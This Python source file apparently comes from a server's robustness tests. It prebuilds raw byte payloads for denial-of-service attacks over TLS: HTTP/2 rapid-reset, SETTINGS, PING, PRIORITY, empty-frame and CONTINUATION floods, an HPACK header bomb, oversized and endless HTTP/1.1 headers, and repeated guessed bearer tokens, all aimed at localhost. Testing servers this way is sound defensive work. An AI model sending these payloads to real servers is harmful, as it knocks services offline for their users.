"""Attacks as octets that are made beforehand, so that an attacker spends as little as can be: what it costs to send them
is what it costs to attack."""

import itertools
import ssl
import struct
from dataclasses import dataclass

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# GET / on https://localhost, without the dynamic table (RFC 7541 appendix A).
GET = bytes([0x82, 0x87, 0x84, 0x01, 9]) + b"localhost"
GOODBYE = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
# Many more than a server should take before it ends the connection.
COUNT = 20_000


@dataclass
class Attack:
    name: str
    protocol: str
    # What a connection sends after its handshake.
    octets: bytes


def frame(kind, stream, payload=b"", flags=0):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def over_http2(name, pieces):
    return Attack(name, "h2", PREFACE + frame(SETTINGS, 0) + b"".join(pieces))


def streams(count):
    return itertools.islice(itertools.count(1, 2), count)


def head(fields):
    return b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"".join(fields) + b"\r\n"


def attacks():
    """All that are sent over TLS."""
    field = b"x-%02d: " + b"a" * 300 + b"\r\n"
    long_head = head([field % number for number in range(96)])
    # A field of 4,000 octets into the dynamic table, and then named as often as a frame has room.
    bomb = GET + bytes([0x40, 1]) + b"x" + b"\x7f\xa1\x1e" + b"a" * 4000 + b"\xbe" * 12_000
    return [
        Attack("a handshake and nothing else", "http/1.1", b""),
        over_http2("rapid reset", (
            frame(HEADERS, stream, GET, END_STREAM | END_HEADERS) + frame(RST_STREAM, stream, b"\0\0\0\x08")
            for stream in streams(COUNT))),
        over_http2("settings flood", [frame(SETTINGS, 0, b"\0\x04\0\0\xff\xff")] * COUNT),
        over_http2("ping flood", [frame(PING, 0, b"attacker")] * COUNT),
        over_http2("priority flood", [frame(PRIORITY, 1, b"\0\0\0\0\x10")] * COUNT),
        over_http2("flood of empty frames", [
            frame(HEADERS, 1, b"\x83" + GET[1:], END_HEADERS), *[frame(DATA, 1)] * COUNT]),
        over_http2("CONTINUATION flood", [
            frame(HEADERS, 1, GET, END_STREAM), *[frame(CONTINUATION, 1, b"\0\x01a\x01b" * 100)] * COUNT]),
        over_http2("HPACK bombs", (frame(HEADERS, stream, bomb, END_STREAM | END_HEADERS) for stream in streams(50))),
        Attack("heads of 30 KB", "http/1.1", long_head * 30 + GOODBYE),
        Attack("heads that never end", "http/1.1", head([field % (number % 100) for number in range(3_000)])),
        Attack("wrong secrets", "http/1.1", (
            b"POST /channel/a HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer guess\r\n"
            b"Content-Type: application/json\r\nContent-Length: 1\r\n\r\n1") * 500 + GOODBYE),
    ]


def client_hello(context):
    """The octets with which a client of this context begins."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
